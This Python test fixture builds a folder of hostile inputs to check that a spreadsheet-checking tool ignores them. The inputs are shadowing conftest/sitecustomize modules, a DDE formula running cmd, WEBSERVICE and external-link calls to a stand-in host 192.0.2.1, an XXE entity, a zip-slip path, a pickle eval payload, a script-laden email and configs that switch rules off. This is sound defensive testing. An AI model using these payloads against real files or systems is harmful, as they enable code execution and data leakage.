"""Files that try to be run, to be believed or to be followed; none of them may have any effect."""

from __future__ import annotations

import io
import shutil
import zipfile
from pathlib import Path

import openpyxl
from books import add_part, edit, replace
from openpyxl.workbook.defined_name import DefinedName
from received import GOOD, SHEET

from pgxl.profile import copy_profile

#: What is written by anything of a received folder that is run.
TRACE = "ran.txt"
#: Names under which Python or a library would look for code in a folder.
_CODE = (
    "conftest.py",
    "sitecustomize.py",
    "usercustomize.py",
    "pgxl.py",
    "json.py",
    "decimal.py",
    "openpyxl.py",
    "xlsxwriter.py",
    "rapidfuzz.py",
    "typer.py",
)
_OFF = "[rules.HDR-05]\nenabled = false\n[rules.TXT-01]\nenabled = false\n"


def fill_hostile(folder: Path) -> Path:
    """Fill a folder with two forms and with everything that wants to be more than data."""
    folder.mkdir()
    trace = folder / TRACE
    for name in _CODE:
        (folder / name).write_text(f"open({str(trace)!r}, 'w').write({name!r})\n", "utf-8")
    for name in ("pgxl.toml", "profile.toml", "rules.toml", "pyproject.toml"):
        (folder / name).write_text(_OFF, "utf-8")
    (folder / ".env").write_text("PGXL_PROFILE=evil\nPYTHONSTARTUP=sitecustomize.py\n", "utf-8")
    interpreter = r'"INTERPRETER_WIN","\\192.0.2.1\evil.exe"'
    (folder / "xlwings.conf").write_text(interpreter, "utf-8")
    copy_profile("evil", "dongguan-2026", folder)
    (folder / "evil" / "rules.toml").write_text(_OFF, "utf-8")
    (folder / "dongguan-2026").mkdir()
    for name in ("profile.toml", "indicators.csv", "rules.toml"):
        shutil.copy(folder / "evil" / name, folder / "dongguan-2026")
    (folder / "1.xlsx").write_bytes(claiming(GOOD[0].read_bytes(), str(folder / "evil")))
    (folder / "2.xlsx").write_bytes(claiming(GOOD[1].read_bytes(), "evil"))
    for name, data in active_books().items():
        (folder / name).write_bytes(data)
    return folder


def claiming(data: bytes, profile: str) -> bytes:
    """Let a workbook claim to be made for a profile, and carry settings for programs."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    for name, text in {
        "PGXL_PROFILE": profile,
        "PGXL_LAYOUT": "1",
        "PGXL_YEAR": "2026",
        "PGXL_PROJECTS": "10",
        "PGXL_RULES": "off",
    }.items():
        book.defined_names[name] = DefinedName(name, attr_text=f'"{text}"')
    for title in ("_xlwings.conf", "xlwings.conf", "口径", "规则"):
        sheet = book.create_sheet(title)
        sheet.append(["INTERPRETER_WIN", r"\\192.0.2.1\share\evil.exe"])
        sheet.append(["profile", profile])
        sheet.append(["HDR-05", "停用"])
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def active_books() -> dict[str, bytes]:
    """Give workbooks with formulas and parts that reach out, and files that are none."""
    good = GOOD[2].read_bytes()
    book = openpyxl.load_workbook(io.BytesIO(good))
    sheet = book[SHEET]
    for row, formula in enumerate(
        (
            '=WEBSERVICE("http://192.0.2.1/x")',
            '=HYPERLINK("http://192.0.2.1/","点这里")',
            "=cmd|'/c calc'!A0",
            "='\\\\192.0.2.1\\share\\[a.xlsx]x'!A1",
            '=IMPORTDATA("http://192.0.2.1/")',
        ),
        start=40,
    ):
        sheet.cell(row, 12).value = formula
    sheet["L50"].hyperlink = "http://192.0.2.1/track"
    stream = io.BytesIO()
    book.save(stream)
    active = stream.getvalue()
    entity = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "http://192.0.2.1/a">]>'
    return {
        "公式.xlsx": active,
        "宏.xlsm": add_part(good, "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(600)),
        "连接.xlsx": add_part(
            good,
            "xl/connections.xml",
            b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<connection id="1" name="x" type="4"><webPr url="http://192.0.2.1/"/></connection>'
            b"</connections>",
        ),
        "实体.xlsx": edit(good, "xl/workbook.xml", lambda text: entity + text.split("?>", 1)[1]),
        "外部.xlsx": edit(
            good,
            "xl/_rels/workbook.xml.rels",
            replace(
                "</Relationships>",
                '<Relationship Id="rX" TargetMode="External" Target="http://192.0.2.1/t.xlsx" '
                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                'externalLinkPath"/></Relationships>',
            ),
        ),
        "包.zip": _zip({"../../evil.py": b"open('ran.txt','w')", "3.xlsx": GOOD[3].read_bytes()}),
        "信.eml": (
            b"From: a@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
            b"Content-Type: text/html; charset=utf-8\r\n\r\n"
            b'<img src="http://192.0.2.1/pixel.png"><script>alert(1)</script>'
        ),
        "查询.iqy": b"WEB\r\n1\r\nhttp://192.0.2.1/\r\n",
        "快捷.url": b"[InternetShortcut]\r\nURL=http://192.0.2.1/\r\n",
        "对象.xlsx": b'cbuiltins\neval\n(S\'open("ran.txt","w")\'\ntR.',
    }


def _zip(members: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return stream.getvalue()
